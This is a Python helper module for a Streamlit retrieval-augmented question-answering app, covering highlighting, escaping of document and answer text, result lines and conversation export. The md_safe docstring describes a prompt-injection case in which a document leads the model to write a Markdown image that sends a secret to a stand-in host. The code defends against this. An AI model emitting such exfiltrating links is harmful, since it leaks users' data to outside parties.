"""Pure helpers for the Streamlit app: safe highlighting, result lines, Markdown export.

Nothing here imports streamlit, so all of it is tested without a browser. Document text that reaches the
page goes through `highlight_html` (escaped, then matches wrapped), `md_text` (shown literally) or `md_safe`
(Markdown that cannot carry HTML, LaTeX or directives): document text is never rendered as raw HTML.
"""

from __future__ import annotations

import html
import re
import time
from collections.abc import Iterable, Sequence

from agentic_rag.language.text import inert_links

MAX_UPLOAD_MB = 200  # keep equal to server.maxUploadSize in .streamlit/config.toml and Limits.max_bytes

MAX_SUMMARISED = 8  # agentic_rag's summary of every document reads at most this many documents
_SECTION_SKIP = re.compile(r"(?i)^(?:\d[\d.]*\s*)?(?:abstract|references|bibliography|contents|table of contents|"
                           r"cover page|index|acknowledge?ments?|appendix)\b")
_PLAIN_NAME = re.compile(r"^[A-Za-z][A-Za-z _-]{1,24}$")


def suggested_questions(documents: Sequence, outline=None, tables=()) -> tuple[str, ...]:
    """Questions the engine answers well for this library (at most three): a summary (of the one document, or of
    each document when there are few), what a named section of a document says (its outline), and a ranking
    over a table with plainly named columns (the tables' compute route); EXAMPLE_QUESTIONS without documents.

    `documents` are the library's records (file_name, doc_id); `outline(doc_id)` returns a document's outline
    (agentic_rag reads it for section questions); `tables` are the library's tables as data (TableInfo)."""
    if not documents:
        return EXAMPLE_QUESTIONS
    out = [f"Summarise {stem(documents[0].file_name)}." if len(documents) == 1 else
           "Summarise the main points of each document." if len(documents) <= MAX_SUMMARISED else
           f"Summarise {stem(documents[0].file_name)}."]
    for record in documents[:MAX_SUMMARISED]:
        sections = [s for s in (outline(record.doc_id).all() if outline else ()) if s.level == 1
                    and not _SECTION_SKIP.match(s.title) and 3 <= len(s.title) <= 60] if outline else []
        if len(sections) >= 2:
            title = re.sub(r"^(?:\d[\d.]*\.?\s+)", "", sections[min(1, len(sections) - 1)].title)
            out.append(f"What does the {title} section of {stem(record.file_name)} say?")
            break
    for table in tables:
        names = [c.name for c in table.columns if _PLAIN_NAME.match(c.name)]
        measures = [c.name for c in table.columns if c.numeric and c.name in names]
        labels = [c.name for c in table.columns if not c.numeric and c.name in names]
        if measures and labels and table.n_rows >= 3:
            out.append(f"Which {labels[0].replace('_', ' ')} has the highest {measures[0].replace('_', ' ')} "
                       f"in {stem(table.file_name)}?")
            break
    return tuple(out[:3])


def stem(file_name: str) -> str:
    """A file's name as words: 'resnet_1512.03385.pdf' -> 'resnet 1512.03385'."""
    return re.sub(r"[_-]+", " ", file_name.rsplit(".", 1)[0])


EXAMPLE_QUESTIONS = (
    "Summarise the main points of each document.",
    "What numbers or figures are reported, and where?",
    "Which document discusses the methodology, and what does it say?",
)


STEP_LABELS = {"analyze": "Analysing the question", "decompose": "Splitting into sub-questions",
               "retrieve": "Retrieving passages", "synthesize": "Writing the answer", "verify": "Checking each claim"}

_STOPWORDS = frozenset({
    "a", "an", "and", "are", "as", "at", "be", "but", "by", "can", "could", "did", "do", "does", "for", "from",
    "had", "has", "have", "how", "i", "if", "in", "into", "is", "it", "its", "me", "my", "of", "on", "or", "our",
    "so", "than", "that", "the", "their", "them", "then", "there", "these", "they", "this", "those", "to", "was",
    "we", "were", "what", "when", "where", "which", "who", "whom", "why", "will", "with", "would", "you", "your",
    "about", "after", "before", "between", "both", "each", "more", "most", "other", "some", "such", "only", "own",
    "same", "too", "very", "just", "also", "any", "all", "not", "no", "nor", "over", "under", "again", "further",
    "once", "here", "out", "up", "down", "off", "tell", "show", "give", "list", "please", "document", "documents",
})


def query_terms(question: str, min_len: int = 3) -> tuple[str, ...]:
    """Distinct lower-cased content words of a question, in order, for highlighting.

    Stop words and words shorter than `min_len` are dropped; numbers of any length are kept.
    """
    terms: list[str] = []
    for word in re.findall(r"\w+", question.lower()):
        if word in _STOPWORDS or (len(word) < min_len and not word.isdigit()):
            continue
        if word not in terms:
            terms.append(word)
    return tuple(terms)


def match_spans(text: str, terms: Iterable[str]) -> list[tuple[int, int]]:
    """Sorted, merged (start, end) spans where a term starts a word of `text` (case-insensitive prefix match).

    A prefix match lets "revenue" light up "revenues" without a stemmer.
    """
    words = sorted({t.lower() for t in terms if t}, key=len, reverse=True)
    if not text or not words:
        return []
    pattern = re.compile(r"\b(?:" + "|".join(re.escape(w) for w in words) + r")\w*", re.IGNORECASE)
    spans: list[tuple[int, int]] = []
    for m in pattern.finditer(text):
        if spans and m.start() <= spans[-1][1]:
            spans[-1] = (spans[-1][0], max(spans[-1][1], m.end()))
        else:
            spans.append((m.start(), m.end()))
    return spans


def highlight_html(text: str, terms: Iterable[str], tag: str = "mark") -> str:
    """HTML for `text` with each match wrapped in <tag>; every piece of the text is escaped first.

    Matches are found on the raw text and each segment is escaped on its own, so a term can never match
    inside an entity such as `&amp;` and a `<script>` in a document shows as text.
    """
    out: list[str] = []
    last = 0
    for start, end in match_spans(text, terms):
        out.append(html.escape(text[last:start]))
        out.append(f"<{tag}>{html.escape(text[start:end])}</{tag}>")
        last = end
    out.append(html.escape(text[last:]))
    return "".join(out)


def md_safe(text: str) -> str:
    """Markdown whose formatting (bold, lists, tables) still works but which renders nothing more than text:
    no HTML, link, image, math, icon, emoji or colour directive. For the answer, which Gemini writes in Markdown
    and which quotes the documents.

    Backslashes are escaped first, so a document's own escapes stay text (`\\[guide\\](http://x)` was a live
    link, `\\$x\\$` a formula). `&` and `<` become entities (tags print literally), `$` is escaped (Streamlit
    renders $..$ as math, and financial text is full of dollars), every `:` too (`:red[...]` stays as typed) and
    square brackets, so no link or image survives: a document that talks the model into writing
    `![x](http://host/?q=secret)` would otherwise make the browser fetch that address (citations such as `[1]`
    still read the same). What Streamlit rewrites after the escapes are undone is split by `_inert`. A table's
    delimiter row (`|---|:--:|`) is left as it is: an escaped alignment colon would end the table.
    """
    return "\n".join(line if _TABLE_RULE.fullmatch(line) else _safe_line(line) for line in text.split("\n"))


def _safe_line(line: str) -> str:
    line = _inert(line).replace("\\", "\\\\")
    line = line.replace("&", "&amp;").replace("<", "&lt;")
    line = line.replace("[", "\\[").replace("]", "\\]")
    return line.replace("$", "\\$").replace(":", "\\:")


_MD_INLINE = re.compile(r"([\\`*_\[\]<>$:&|~])")  # marks that format wherever they stand
_MD_LINE_START = re.compile(r"^([ \t]*)(#|[-+=]|\d+(?=[.)]))", re.MULTILINE)  # heading, list, rule, setext


def md_text(text: str) -> str:
    """Markdown that shows `text` literally: the marks that would format it are backslash-escaped.

    For file names, questions, reasons and other plain text from outside (a file called `*draft*.pdf` stays
    that, not italics; `<b>` prints as typed; `$5` is no formula; `:red[x]` no colour; an address no link).
    Dots, dashes and brackets are left alone except where Markdown would read them (a list or heading at a
    line start).
    """
    return _MD_LINE_START.sub(_escape_line_start, _MD_INLINE.sub(r"\\\1", _inert(text)))


def _escape_line_start(match: re.Match) -> str:
    indent, mark = match.group(1), match.group(2)
    # "12." -> "12\." (the dot after the number makes the list); "-", "+", "#", "=" get the backslash before them
    return f"{indent}{mark}\\" if mark[0].isdigit() else f"{indent}\\{mark}"


JOINER = "\u2060"  # WORD JOINER: zero width and invisible, yet it is a character that the patterns below do not allow
_NEEDS_JOINER = re.compile(
    r"(?<=:)(?=//)"  # https://host: Streamlit links addresses in the text after escapes are undone
    r"|(?<=www)(?=\.)"  # www.host: linked the same way
    r"|(?<=@)(?=[-\w])"  # name@host.org: a mailto: link
    r"|(?<=:)(?=[\w+-]+:|material/)",  # :smile:, :streamlit:, :material/icon: and :material_icon: draw pictures
    re.IGNORECASE)
_TYPOGRAPHY = re.compile(r"(?<!\S)(?:<->|->|<-|--|>=|<=|~=)(?!\S)")  # become arrows, a dash and relations
_TABLE_RULE = re.compile(r"[\s|:-]*")  # a table's delimiter row (| -- | :-: |) or a rule: left as it is


def _inert(text: str) -> str:
    """Text with a word joiner inside each sequence that Streamlit turns into more than text *after* Markdown
    escapes are resolved, where no backslash can reach: GFM's address autolinks, its picture shortcodes and
    its typographic arrows are rewrites of the parsed text. The joiner shows nothing, so the text reads (and
    copies, apart from the invisible joiner) as it is. Table delimiter rows and rules are left alone."""
    return "\n".join(line if _TABLE_RULE.fullmatch(line) else
                     _TYPOGRAPHY.sub(lambda m: JOINER.join(m.group(0)), _NEEDS_JOINER.sub(JOINER, line))
                     for line in text.split("\n"))


def format_seconds(seconds: float) -> str:
    """'0.4 s', '12 s', '3 min 05 s'."""
    if seconds < 10:
        return f"{seconds:.1f} s"
    if seconds < 60:
        return f"{seconds:.0f} s"
    minutes, rest = divmod(int(round(seconds)), 60)
    return f"{minutes} min {rest:02d} s"


def time_left(seconds: float) -> str:
    """'about 12 s left', 'about 3 min 05 s left'; under a second, 'almost done' (never 'about 0.0 s left')."""
    if seconds < 1:
        return "almost done"
    return f"about {format_seconds(seconds) if seconds >= 10 else f'{seconds:.0f} s'} left"


def format_bytes(size: int) -> str:
    """'812 B', '14.2 KB', '3.1 MB'."""
    if size < 1024:
        return f"{size} B"
    if size < 1024**2:
        return f"{size / 1024:.1f} KB"
    return f"{size / 1024**2:.1f} MB"


def plural(n: int, word: str) -> str:
    """'1 page', '3 pages', '2 sheets'; a unit already in the plural ('lines') is handled too."""
    base = word[:-1] if word.endswith("s") else word
    return f"{n} {base}" if n == 1 else f"{n} {base}s"


def result_line(result) -> tuple[str, str]:
    """(status, Markdown line) for one IngestResult; status is indexed|duplicate|replaced|failed.

    The file name and parser reason are shown literally (md_text): both come from outside.
    """
    name = md_text(result.file_name)
    status = result.status
    if status == "failed":
        return status, f"**{name}** — failed: {md_text(result.reason or 'unknown reason')}"
    if status == "duplicate":
        other = md_text(result.duplicate_of or "a document already in the library")
        return status, f"**{name}** — duplicate of {other} (skipped)"
    units = plural(result.units, result.unit_name) if result.unit_name else ""
    facts = ", ".join(p for p in (plural(result.chunks, "chunk"), units, format_seconds(result.seconds)) if p)
    verb = "replaced the earlier version" if status == "replaced" else "indexed"
    warned = "".join(f" — ⚠ {md_text(w)}" for w in result.warnings)
    return status, f"**{name}** — {verb} ({facts}){warned}"


def document_caption(record) -> str:
    """'PDF · 15 pages · 120 chunks · 2.1 MB' for a DocumentRecord."""
    parts = [record.file_type.upper()]
    if record.unit_name and record.units:
        parts.append(plural(record.units, record.unit_name))
    parts.append(plural(record.chunks, "chunk"))
    if record.size_bytes:
        parts.append(format_bytes(record.size_bytes))
    return " · ".join(parts)


def location_label(location) -> str:
    """A Location's label ('' for None)."""
    return "" if location is None else location.label()


def citation_label(citation) -> str:
    """'[2] report.pdf · p. 3' for one Citation of an answer."""
    where = location_label(citation.location)
    return f"[{citation.n}] {citation.file}" + (f" · {where}" if where else "")


def scores_text(hit) -> str:
    """'fused 0.032 · vector 0.71 · BM25 8.4 · hybrid' for a Hit (missing scores left out)."""
    parts = [f"score {hit.score:.3f}"]
    if hit.vector_score is not None:
        parts.append(f"vector {hit.vector_score:.2f}")
    if hit.bm25_score is not None:
        parts.append(f"BM25 {hit.bm25_score:.1f}")
    parts.append(hit.strategy)
    return " · ".join(parts)


def conversation_markdown(messages: Sequence[dict], mode_label: str) -> str:
    """The whole conversation as Markdown: questions, answers, numbered sources with locations, reasoning.

    `messages` are the app's chat entries: {"role": "user"|"assistant", "content": str, "answer": AnswerResult,
    "model": str} (an assistant entry without "answer" is a question that failed, its "error" saying why).
    Only what is on the page goes out; no key or setting that could hold a secret is read here.
    """
    lines = ["# Conversation", "", f"Mode when exported: {mode_label}", ""]
    for message in messages:
        if message["role"] == "user":
            lines += [f"## Q: {message['content']}", ""]
            continue
        answer = message.get("answer")
        lines += [f"_Answered by: {answer_mode_label(answer.mode if answer else '', message.get('model', ''))}_", ""]
        lines += [_export_text(message["content"]) or message.get("error") or "_(no answer)_", ""]
        if answer is not None:
            lines += _export_sources(answer.citations) + _export_reasoning(answer)
            lines += [line for warning in answer.warnings for line in (f"> Warning: {warning}", "")]
    return "\n".join(lines).rstrip() + "\n"


def _export_text(answer: str) -> str:
    """An answer as the export writes it: Markdown formatting kept, but no image that a Markdown viewer would
    load, no link it would follow, and no HTML tag it would render (tags print as typed)."""
    return inert_links(answer).replace("<", "&lt;")


def answer_mode_label(mode: str, model: str = "") -> str:
    """'Gemini (gemini-3.8-flash)', 'Local model (llama3.2)', 'Offline (extractive)'; 'no answer' for a failure."""
    if not mode:
        return "no answer (the question failed)"
    name = {"gemini": "Gemini", "local": "Local model"}.get(mode, "Offline (extractive)")
    return f"{name} ({model})" if model and mode in ("gemini", "local") else name


def _export_sources(citations: Sequence) -> list[str]:
    if not citations:
        return []
    out = ["### Sources", ""]
    for c in citations:
        passage = " ".join(c.text.split())
        out.append(f"- {citation_label(c)}" + (f" — “{_export_text(passage[:300])}”" if passage else ""))
    return out + [""]


def _export_reasoning(answer) -> list[str]:
    if not answer.trace:
        return []
    out = ["### Reasoning", ""]
    for entry in answer.trace:
        out.append(f"- **{entry.get('step', '?')}** ({format_seconds(float(entry.get('seconds') or 0))}, "
                   f"{entry.get('llm_calls', 0)} LLM calls): {entry.get('summary', '')}")
    for claim in answer.claims:
        marks = "".join(f"[{n}]" for n in claim.citations)
        out.append(f"- claim ({claim.verdict}): {_export_text(claim.text)} {marks}".rstrip())
    out.append(f"- confidence: {answer.confidence:.2f}")
    return out + [""]


def export_file_name(now: float | None = None) -> str:
    """'conversation-20250101-1230.md' (local time)."""
    return time.strftime("conversation-%Y%m%d-%H%M.md", time.localtime(now))


def chat_history(messages: Sequence[dict], turns: int = 6) -> tuple[tuple, ...]:
    """The last `turns` answered (question, answer, citations) exchanges, for follow-up questions (a follow-up
    comparison keeps the passages the answer it follows cited); failed answers are left out."""
    pairs: list[tuple] = []
    question = None
    for message in messages:
        if message["role"] == "user":
            question = message["content"]
        elif question is not None and message.get("content"):
            answer = message.get("answer")
            pairs.append((question, message["content"], tuple(getattr(answer, "citations", ()) or ())))
            question = None
    return tuple(pairs[-turns:])


def error_reason(error: BaseException, limit: int = 300) -> str:
    """One short line for the user: the error's own human `reason` when it has one, else 'Type: message'."""
    reason = getattr(error, "reason", None)
    if not reason:
        message = " ".join(str(error).split())
        reason = f"{type(error).__name__}: {message}" if message else type(error).__name__
    reason = " ".join(str(reason).split())
    return reason if len(reason) <= limit else reason[: limit - 1] + "…"


class LiveAnswer:
    """Folds the agent's events, as BackgroundCall hands them over, into what the page shows while it works.

    apply() returns (kind, Markdown): "answer" (the text so far, with a cursor), "label" (a step started),
    "line" (a step finished: what it did and how long it took), "fallback" (Gemini failed: the streamed text
    is dropped, the offline brain answers instead), or ("", "") for nothing to show.
    """

    def __init__(self):
        self.parts: list[str] = []

    def apply(self, event: tuple) -> tuple[str, str]:
        """One ("token", text) or ("event", step, entry) event."""
        if event[0] == "token":
            self.parts.append(event[1])
            return "answer", md_safe("".join(self.parts)) + " ▌"
        step, entry = event[1], event[2]
        label = STEP_LABELS.get(step, step)
        state = entry.get("status")
        if state == "fallback":
            self.parts.clear()
            return "fallback", f":orange[Gemini failed ({md_text(str(entry.get('reason', '')))}); continuing offline.]"
        if state == "started":
            return "label", f"{label}…"
        if state == "done":
            seconds = format_seconds(float(entry.get("seconds") or 0))
            return "line", f":material/check: **{label}** — {md_text(str(entry.get('summary', '')))} ({seconds})"
        return "", ""
